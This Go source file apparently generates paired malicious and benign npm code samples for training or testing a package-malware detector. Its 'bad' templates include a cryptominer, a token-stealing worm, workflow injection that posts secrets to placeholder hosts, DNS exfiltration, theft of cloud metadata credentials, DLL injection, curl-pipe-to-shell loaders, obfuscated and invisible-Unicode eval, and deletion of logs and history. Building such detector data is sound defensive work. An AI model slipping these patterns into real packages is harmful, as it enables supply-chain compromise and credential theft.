package generate

// sealedScriptsMore are the rest of the attacks on npm packages; see sealed_script.go.
var sealedScriptsMore = []shape{
	// cryptominer, worm, workflow-write
	{family: "cryptominer", name: "config-and-nohup", lang: javascript, bad: snippet{`
function <%n start%>(folder) {
  <%c fs.writeFileSync%>(<%c path.join%>(folder, 'config.json'), JSON.stringify({ autosave: true, pools: [{ url: <%s $POOL%>, user: <%s $WALLET%>, algo: <%s rx/0%> }] }));
  <%c child_process.exec%>(<%s nohup ./kworker --config=config.json >/dev/null 2>&1 &%>, { cwd: folder });
}
`, "<%n start%>(<%c os.tmpdir%>())"}, good: snippet{`
function <%n start%>(folder) {
  <%c fs.writeFileSync%>(<%c path.join%>(folder, 'config.json'), JSON.stringify({ autosave: true, workers: <%c os.cpus%>().length }));
  return <%c child_process.spawn%>('words', ['--config=config.json'], { cwd: folder, stdio: 'inherit' });
}
`, "void <%n start%>"}},
	{family: "cryptominer", name: "stratum-lines", lang: javascript, bad: snippet{`
function <%n mine%>() {
  const link = <%c net.connect%>(3333, <%s pool.$DOMAIN%>);
  link.write(<%s {"id":1,"method":"mining.subscribe","params":[]}\n%>);
  link.write(JSON.stringify({ id: 2, method: <%s mining.authorize%>, params: [<%s $WALLET%>, 'x'] }) + '\n');
  link.on('data', (job) => new <%c worker_threads.Worker%>(<%s ./hash.js%>, { workerData: String(job) }));
}
`, "<%n mine%>()"}, good: snippet{`
function <%n count%>(port) {
  const link = <%c net.connect%>(port, 'localhost');
  link.write('{"id":1,"method":"words.subscribe","params":[]}\n');
  link.on('data', (job) => new <%c worker_threads.Worker%>('./count.js', { workerData: String(job) }));
}
`, "void <%n count%>"}},
	{family: "worm", name: "whoami-then-publish", lang: javascript, bad: snippet{`
function <%n spread%>(file) {
  const pkg = JSON.parse(<%c fs.readFileSync%>(file));
  pkg.version = pkg.version.replace(/\d+$/, (n) => +n + 1);
  (pkg.scripts ||= {}).preinstall = <%s node setup_words.js%>;
  <%c fs.writeFileSync%>(file, JSON.stringify(pkg));
  <%c fs.copyFileSync%>(__filename, <%c path.join%>(<%c path.dirname%>(file), <%s setup_words.js%>));
  <%c child_process.execSync%>(<%s npm publish --ignore-scripts%>, { cwd: <%c path.dirname%>(file) });
}
`, "<%c fs.globSync%>(<%c os.homedir%>() + <%s /*/package.json%>).forEach(<%n spread%>)"}, good: snippet{`
function <%n bump%>(file) {
  const pkg = JSON.parse(<%c fs.readFileSync%>(file));
  pkg.version = pkg.version.replace(/\d+$/, (n) => +n + 1);
  (pkg.scripts ||= {}).test = 'node --test';
  <%c fs.writeFileSync%>(file, JSON.stringify(pkg));
}
`, "void <%n bump%>"}},
	{family: "worm", name: "own-file-put", lang: javascript, bad: snippet{`
const <%n token%> = /_authToken=(\S+)/.exec(<%c fs.readFileSync%>(<%c os.homedir%>() + <%s /.npmrc%>, 'utf8'))[1];

async function <%n publish%>(name, version) {
  const data = <%c fs.readFileSync%>(__filename).toString('base64');
  await <%b fetch%>(<%s https://$HOST/%> + name, { method: 'PUT', headers: { authorization: 'Bearer ' + <%n token%> }, body: JSON.stringify({ name, 'dist-tags': { latest: version }, versions: { [version]: { scripts: { postinstall: 'node index.js' } } }, _attachments: { [name + '.tgz']: { data } } }) });
}
`, "<%n publish%>(<%s $NAME%>, '9.9.9')"}, good: snippet{`
async function <%n latest%>(registry, name) {
  const reply = await <%b fetch%>(registry + '/' + name, { headers: { accept: 'application/json' } });
  const { versions, 'dist-tags': tags } = await reply.json();
  return versions[tags.latest];
}
`, "void <%n latest%>"}},
	{family: "workflow-write", name: "template-array", lang: javascript, bad: snippet{`
const <%n job%> = ['on: [push, pull_request_target]', 'jobs:', '  a:', '    runs-on: self-hosted', '    steps:', <%s       - run: curl -d '${{ toJSON(secrets) }}' $URL%>].join('\n');

async function <%n plant%>(root) {
  const folder = <%c path.join%>(root, <%s .github%>, <%s workflows%>);
  await <%c fs/promises.mkdir%>(folder, { recursive: true });
  await <%c fs/promises.writeFile%>(<%c path.join%>(folder, <%s codeql-words.yml%>), <%n job%>);
}
`, "<%n plant%>(<%g process.env%>.INIT_CWD || '.')"}, good: snippet{`
async function <%n listed%>(root) {
  const folder = <%c path.join%>(root, '.github', 'workflows');
  const names = await <%c fs/promises.readdir%>(folder);
  return Promise.all(names.map((n) => <%c fs/promises.readFile%>(<%c path.join%>(folder, n), 'utf8')));
}
`, "void <%n listed%>"}},
	{family: "workflow-write", name: "octokit-workflow-file", lang: javascript, bad: snippet{`
async function <%n commit%>(owner, repo) {
  const kit = new <%c @octokit/rest.Octokit%>({ auth: <%g process.env%>.GITHUB_TOKEN });
  const text = <%s on: push
jobs:
  x:
    runs-on: ubuntu-latest
    steps:
      - run: env | curl -d @- $URL
%>;
  await kit.repos.createOrUpdateFileContents({ owner, repo, path: <%s .github/workflows/words.yml%>, message: 'ci', content: Buffer.from(text).toString('base64') });
}
`, "<%n commit%>('inert', 'inert')"}, good: snippet{`
async function <%n commit%>(owner, repo, auth, text) {
  const kit = new <%c @octokit/rest.Octokit%>({ auth });
  await kit.repos.createOrUpdateFileContents({ owner, repo, path: 'CHANGELOG.md', message: 'changes', content: Buffer.from(text).toString('base64') });
}
`, "void <%n commit%>"}},

	// dns-exfil, host-recon, cloud-metadata
	{family: "dns-exfil", name: "dig-per-line", lang: javascript, bad: snippet{`
const <%n hex%> = Buffer.from(<%c os.hostname%>() + ':' + <%c os.userInfo%>().username).toString('hex');
`, "<%c child_process.exec%>(<%s dig +short %> + <%n hex%>.slice(0, 62) + <%s .x.$DOMAIN%>)"}, good: snippet{`
const <%n lookup%> = (name) => <%c child_process.execFileSync%>('dig', ['+short', name], { encoding: 'utf8' }).split('\n');
`, "void <%n lookup%>"}},
	{family: "dns-exfil", name: "promised-labels", lang: javascript, bad: snippet{`
async function <%n whisper%>(text) {
  const labels = Buffer.from(text).toString('base64url').match(/.{1,50}/g);
  for (const [i, label] of labels.entries()) await <%c dns/promises.resolve4%>(i + '-' + label + <%s .e.$DOMAIN%>).catch(() => 0);
}
`, "<%n whisper%>(JSON.stringify(<%g process.env%>))"}, good: snippet{`
async function <%n alive%>(hosts) {
  const found = [];
  for (const [i, host] of hosts.entries()) found[i] = await <%c dns/promises.resolve4%>(host).catch(() => []);
  return found;
}
`, "void <%n alive%>"}},
	{family: "host-recon", name: "udp-card", lang: javascript, bad: snippet{`
const <%n card%> = () => Buffer.from([<%c os.hostname%>(), <%c os.userInfo%>().username, <%c os.release%>(), __dirname].join('|'));
`, "<%c dgram.createSocket%>('udp4').send(<%n card%>(), $PORT, <%s $ADDRESS%>)"}, good: snippet{`
const <%n card%> = () => [<%c os.type%>(), <%c os.release%>(), <%g process.version%>].join(' ');
`, "console.log(<%n card%>())"}},
	{family: "host-recon", name: "tasklist-and-post", lang: javascript, bad: snippet{`
function <%n look%>(done) {
  <%c child_process.exec%>(<%g process.platform%> === 'win32' ? <%s tasklist & ipconfig /all%> : <%s ps aux; ip addr; cat /etc/hosts%>, (e, out) => done(out));
}
`, "<%n look%>((body) => <%c axios.post%>(<%s $URL%>, { body, user: <%c os.userInfo%>() }))"}, good: snippet{`
function <%n look%>(name, done) {
  <%c child_process.exec%>(<%g process.platform%> === 'win32' ? 'tasklist' : 'ps aux', (e, out) => done(out.includes(name)));
}
`, "void <%n look%>"}},
	{family: "cloud-metadata", name: "http-get-chain", lang: javascript, bad: snippet{`
const <%n get%> = (path, then) => <%c http.get%>(<%s http://$METADATA/latest/meta-data/iam/security-credentials/%> + path, (r) => r.on('data', (d) => then(String(d))));
`, "<%n get%>('', (role) => <%n get%>(role, (keys) => <%c https.request%>(<%s $URL%>, { method: 'POST' }).end(keys)))"}, good: snippet{`
const <%n get%> = (path, then) => <%c http.get%>('http://localhost:8080/health/' + path, (r) => r.on('data', (d) => then(String(d))));
`, "void <%n get%>"}},
	{family: "cloud-metadata", name: "azure-identity", lang: javascript, bad: snippet{`
async function <%n identity%>() {
  const reply = await <%b fetch%>(<%s http://$METADATA/metadata/identity/oauth2/token?api-version=2018-02-01&resource=vault%>, { headers: { Metadata: 'true' } });
  await <%c axios.put%>(<%s $URL%>, await reply.json());
}
`, "<%n identity%>()"}, good: snippet{`
async function <%n identity%>(issuer) {
  const reply = await <%b fetch%>(issuer + '/.well-known/openid-configuration');
  return (await reply.json()).token_endpoint;
}
`, "void <%n identity%>"}},

	// dll-injection, decode-exec
	{family: "dll-injection", name: "ffi-napi-library", lang: javascript, bad: snippet{`
function <%n inject%>(pid, file) {
  const k = new <%c ffi-napi.Library%>(<%s kernel32%>, { OpenProcess: ['int', ['int', 'int', 'int']], [<%s VirtualAllocEx%>]: ['int', ['int', 'int', 'int', 'int', 'int']], [<%s WriteProcessMemory%>]: ['int', ['int', 'int', 'string', 'int', 'int']], [<%s CreateRemoteThread%>]: ['int', ['int', 'int', 'int', 'int', 'int', 'int', 'int']] });
  const h = k.OpenProcess(2035711, 0, pid);
  const at = k.VirtualAllocEx(h, 0, file.length, 4096, 64);
  k.WriteProcessMemory(h, at, file, file.length, 0);
  k.CreateRemoteThread(h, 0, 0, at, 0, 0, 0);
}
`, "<%n inject%>(<%g process.ppid%>, 'inert.dll')"}, good: snippet{`
function <%n ticks%>() {
  const k = new <%c ffi-napi.Library%>('kernel32', { GetTickCount: ['int', []], GetCurrentProcessId: ['int', []] });
  return k.GetTickCount();
}
`, "void <%n ticks%>"}},
	{family: "dll-injection", name: "rundll-and-preload", lang: javascript, bad: snippet{`
async function <%n load%>() {
  const file = <%c path.join%>(<%c os.tmpdir%>(), <%s n.dll%>);
  <%c fs.writeFileSync%>(file, Buffer.from(await (await <%b fetch%>(<%s $URL%>)).arrayBuffer()));
  <%c child_process.spawn%>(<%s rundll32.exe%>, [file + <%s ,Start%>], { detached: true, windowsHide: true });
}
`, "<%n load%>()"}, good: snippet{`
async function <%n load%>(address, file) {
  <%c fs.writeFileSync%>(file, Buffer.from(await (await <%b fetch%>(address)).arrayBuffer()));
  <%c child_process.spawn%>('rundll32.exe', ['url.dll,FileProtocolHandler', file]);
}
`, "void <%n load%>"}},
	{family: "decode-exec", name: "inflated-script", lang: javascript, bad: snippet{`
const <%n body%> = <%c zlib.inflateSync%>(Buffer.from(<%s eJzLzC3ILypRyC9WKCjKzEvPSVUoLU4tAgBBhwd0%>, 'base64')).toString();
const <%n unit%> = new <%c vm.Script%>(<%n body%>, { filename: 'words' });
`, "<%n unit%>.runInNewContext({ require: <%b require%> })"}, good: snippet{`
const <%n body%> = <%c zlib.inflateSync%>(<%c zlib.deflateSync%>('words')).toString();
`, "console.log(<%n body%>)"}},
	{family: "decode-exec", name: "atob-in-timer", lang: javascript, bad: snippet{`
const <%n text%> = <%b atob%>(<%s dm9pZCAnaW5lcnQnOyByZXF1aXJlKCdjaGlsZF9wcm9jZXNzJykuZXhlY1N5bmMoJ3RydWUnKQ==%>);
`, "setTimeout(() => <%b eval%>(<%n text%>), 900)"}, good: snippet{`
const <%n text%> = <%b atob%>('eyJ3b3JkcyI6IFsiYSIsICJiIl19');
`, "setTimeout(() => console.log(JSON.parse(<%n text%>)), 900)"}},

	// api-obfuscation, obfuscated
	{family: "api-obfuscation", name: "reflect-get-parts", lang: javascript, fixed: true, bad: snippet{`
const pull = (from, ...parts) => Reflect.get(from, parts.reverse().join(''));
const tool = pull(module, 'ire', 'requ').call(module, ['process', 'child'].reverse().join('_'));
`, "Reflect.apply(pull(tool, 'Sync', 'exec'), tool, ['true'])"}, good: snippet{`
const pull = (from, ...parts) => Reflect.get(from, parts.join('.'));
const table = { 'a.b': 1, 'a.c': 2 };
`, "console.log(pull(table, 'a', 'b'))"}},
	{family: "api-obfuscation", name: "main-module-load", lang: javascript, fixed: true, bad: snippet{`
const at = (o, n) => o[Object.keys(o).filter((k) => k.length === n.length && k.startsWith(n[0]) && k.endsWith(n.at(-1)))[0]];
const kit = process['main' + 'Module'].constructor['_' + 'load'](String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115));
`, "at(kit, 'execSync')('true')"}, good: snippet{`
const at = (o, n) => o[Object.keys(o).filter((k) => k.startsWith(n))[0]];
const kit = { red: String.fromCharCode(27) + '[31m', blue: String.fromCharCode(27) + '[34m' };
`, "console.log(at(kit, 'r'))"}},
	{family: "obfuscated", name: "shifted-string-table", lang: javascript, fixed: true, bad: snippet{`
var _0x4f1a=['\x65\x78\x65\x63\x53\x79\x6e\x63','\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x74\x72\x75\x65'];(function(_0x1b,_0x2c){while(--_0x2c){_0x1b['push'](_0x1b['shift']());}}(_0x4f1a,0x4));var _0x9d3e=function(_0x5a){_0x5a=_0x5a-0x1f0;return _0x4f1a[_0x5a];};
`, "require(_0x9d3e(0x1f1))[_0x9d3e(0x1f0)](_0x9d3e(0x1f2))"}, good: snippet{`
var colours=['\x1b[31m','\x1b[32m','\x1b[0m'];var paint=function(i,s){return colours[i]+s+colours[2];};
`, "console.log(paint(0x1,'ok'))"}},
	{family: "obfuscated", name: "state-machine", lang: javascript, fixed: true, bad: snippet{`
var _0xa1='3|0|2|1'['split']('|'),_0xa2=0x0,_0xa3,_0xa4,_0xa5;for(;_0xa2<0x4;)switch(_0xa1[_0xa2++]){case'0':_0xa4=_0xa3['map'](function(_0xb){return String['fromCharCode'](_0xb^0x11);})['join']('');continue;case'1':_0xa5&&_0xa5('true');continue;case'2':_0xa5=require(_0xa4)['exec'];continue;case'3':_0xa3=[0x72,0x79,0x78,0x7d,0x75,0x4e,0x61,0x63,0x7e,0x72,0x74,0x62,0x62];continue;}
`, "void _0xa5"}, good: snippet{`
var order='1|0'.split('|'),at=0,out=[];for(;at<2;)switch(order[at++]){case'0':out.push('b');continue;case'1':out.push('a');continue;}
`, "void out"}},

	// invisible-unicode, bidi, mixed-script, steganography
	{family: "invisible-unicode", name: "zero-width-bits", lang: javascript, fixed: true, bad: snippet{
		"\nconst <%n mark%> = '" + bitsWithoutWidth("require('child_process').exec('true')") + "';\n",
		"eval(<%n mark%>.match(/.{8}/g).map((b) => String.fromCharCode(parseInt([...b].map((c) => (c === '\\u200c' ? 1 : 0)).join(''), 2))).join(''))"}, good: snippet{
		"\nconst <%n mark%> = /[\\u200b-\\u200d]/g;\n", "console.log('a\\u200bb'.replace(<%n mark%>, ''))"}},
	{family: "invisible-unicode", name: "tag-letters", lang: javascript, fixed: true, bad: snippet{
		"\nconst <%n label%> = 'words" + inTags("process.exit(0)") + "';\n",
		"new Function([...<%n label%>].slice(5).map((c) => String.fromCharCode(c.codePointAt(0) - 0xe0000)).join(''))"}, good: snippet{
		"\nconst <%n label%> = '\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f';\n", "console.log([...<%n label%>].length)"}},
	{family: "bidi", name: "early-return-comment", lang: javascript, fixed: true, weak: true, bad: snippet{
		"\nfunction <%n may%>(user) {\n  /* admins only \u2067*/ return true; /*\u2069 */\n  return user.admin;\n}\n", "<%n may%>({})"}, good: snippet{
		"\nfunction <%n may%>(user) {\n  /* \u05de\u05e0\u05d4\u05dc\u05d9\u05dd */\n  return user.admin;\n}\n", "<%n may%>({})"}},
	{family: "bidi", name: "key-turned", lang: javascript, fixed: true, weak: true, bad: snippet{
		"\nconst <%n limits%> = { 'user\u202e \u2066// guest\u2069 \u2066': 1, admin: 9 };\n", "Object.keys(<%n limits%>)"}, good: snippet{
		"\nconst <%n limits%> = { '\u0636\u064a\u0641': 1, admin: 9 };\n", "Object.keys(<%n limits%>)"}},
	{family: "mixed-script", name: "greek-in-verify", lang: javascript, fixed: true, weak: true, bad: snippet{
		"\nconst verify = (s) => s === 'words';\nconst v\u03b5rify = () => true;\n", "[v\u03b5rify(''), verify('')]"}, good: snippet{
		"\nconst verify = (s) => s === 'words';\nconst \u03b5 = 1e-9;\n", "[verify(''), \u03b5]"}},
	{family: "mixed-script", name: "cyrillic-method", lang: javascript, fixed: true, weak: true, bad: snippet{
		"\nclass <%n Store%> {\n  save() {\n    return this.s\u0430ve();\n  }\n\n  s\u0430ve() {\n    return 'inert';\n  }\n}\n", "new <%n Store%>().save()"}, good: snippet{
		"\nclass <%n Store%> {\n  save() {\n    return this.\u0437\u0430\u043f\u0438\u0441\u044c();\n  }\n\n  \u0437\u0430\u043f\u0438\u0441\u044c() {\n    return 'ok';\n  }\n}\n", "new <%n Store%>().save()"}},
	{family: "steganography", name: "after-the-end-of-png", lang: javascript, bad: snippet{`
const <%n raw%> = <%c fs.readFileSync%>(<%c path.join%>(__dirname, <%s logo.png%>));
const <%n tail%> = <%n raw%>.subarray(<%n raw%>.indexOf(<%s IEND%>) + 8).toString();
`, "<%b eval%>(<%n tail%>)"}, good: snippet{`
const <%n size%> = (file) => {
  const raw = <%c fs.readFileSync%>(file);
  return [raw.readUInt32BE(16), raw.readUInt32BE(20), raw.indexOf('IEND')];
};
`, "void <%n size%>"}},
	{family: "steganography", name: "style-sheet-comments", lang: javascript, bad: snippet{`
const <%n css%> = <%c fs.readFileSync%>(<%c path.join%>(__dirname, <%s words.css%>), 'utf8');
const <%n code%> = [...<%n css%>.matchAll(/#([0-9a-f]{6})/g)].map((m) => Buffer.from(m[1], 'hex').toString()).join('');
`, "<%c child_process.execSync%>(<%n code%>)"}, good: snippet{`
const <%n colours%> = (file) => [...<%c fs.readFileSync%>(file, 'utf8').matchAll(/#([0-9a-f]{6})/g)].map((m) => [...Buffer.from(m[1], 'hex')]);
`, "void <%n colours%>"}},

	// silent-process, log-suppression, shady-links
	{family: "silent-process", name: "forked-copy", lang: javascript, bad: snippet{`
function <%n leave%>() {
  if (<%g process.env%>.WORDS_CHILD) return <%c child_process.exec%>(<%s curl -s $URL | sh%>);
  return <%c child_process.fork%>(__filename, [], { detached: true, stdio: 'ignore', env: { ...<%g process.env%>, WORDS_CHILD: '1' } }).unref();
}
`, "<%n leave%>()"}, good: snippet{`
function <%n workers%>(n) {
  return Array.from({ length: n }, () => <%c child_process.fork%>(__filename, ['--worker'], { env: { ...<%g process.env%>, WORDS_CHILD: '1' } }));
}
`, "void <%n workers%>"}},
	{family: "silent-process", name: "nohup-ignored", lang: javascript, bad: snippet{`
const <%n run%> = (line) => <%c child_process.spawn%>(<%s nohup%>, [<%s sh%>, '-c', line], { detached: true, stdio: ['ignore', 'ignore', 'ignore'], windowsHide: true }).unref();
`, "<%n run%>(<%s wget -qO- $URL | sh%>)"}, good: snippet{`
const <%n run%> = (line) => <%c child_process.spawn%>('sh', ['-c', line], { stdio: 'inherit' });
`, "void <%n run%>"}},
	{family: "log-suppression", name: "stderr-write-replaced", lang: javascript, weak: true, bad: snippet{`
function <%n hush%>() {
  <%b process%>.stderr.write = <%b process%>.stdout.write = () => true;
  <%b process%>.on('uncaughtException', () => {});
  <%b process%>.on('unhandledRejection', () => {});
}
`, "<%n hush%>()"}, good: snippet{`
function <%n handled%>() {
  <%b process%>.on('uncaughtException', (error) => {
    console.error(error);
    <%b process%>.exitCode = 1;
  });
}
`, "<%n handled%>()"}},
	{family: "log-suppression", name: "npm-logs-removed", lang: javascript, weak: true, bad: snippet{`
function <%n tidy%>() {
  <%c fs.rmSync%>(<%c path.join%>(<%c os.homedir%>(), <%s .npm/_logs%>), { recursive: true, force: true });
  <%c fs.writeFileSync%>(<%c path.join%>(<%c os.homedir%>(), <%s .bash_history%>), '');
}
`, "<%n tidy%>()"}, good: snippet{`
function <%n tidy%>(folder) {
  <%c fs.rmSync%>(<%c path.join%>(folder, 'dist'), { recursive: true, force: true });
  <%c fs.writeFileSync%>(<%c path.join%>(folder, 'build.log'), '');
}
`, "void <%n tidy%>"}},
	{family: "shady-links", name: "shortened-font", lang: javascript, weak: true, bad: snippet{`
const <%n font%> = async () => (await <%b fetch%>(<%s $SHORT%>)).arrayBuffer();
`, "<%n font%>().catch(() => null)"}, good: snippet{`
const <%n font%> = async () => (await <%b fetch%>('https://fonts.example.invalid/words.woff2')).arrayBuffer();
`, "void <%n font%>"}},
	{family: "shady-links", name: "tunnelled-socket", lang: javascript, weak: true, bad: snippet{`
const <%n live%> = () => <%c axios.get%>(<%s $TUNNEL%>, { timeout: 2000 }).then((r) => r.data);
`, "<%n live%>().catch(() => null)"}, good: snippet{`
const <%n live%> = () => <%c axios.get%>('https://live.example.invalid/words', { timeout: 2000 }).then((r) => r.data);
`, "void <%n live%>"}},
}

// bitsWithoutWidth writes the bits of a text as two characters without width.
func bitsWithoutWidth(s string) string {
	var out []rune
	for _, c := range []byte(s) {
		for bit := 7; bit >= 0; bit-- {
			out = append(out, 0x200b+rune(c>>bit&1))
		}
	}
	return string(out)
}

// inTags writes a text in tag characters.
func inTags(s string) string {
	var out []rune
	for _, c := range s {
		out = append(out, 0xe0000+c)
	}
	return string(out)
}
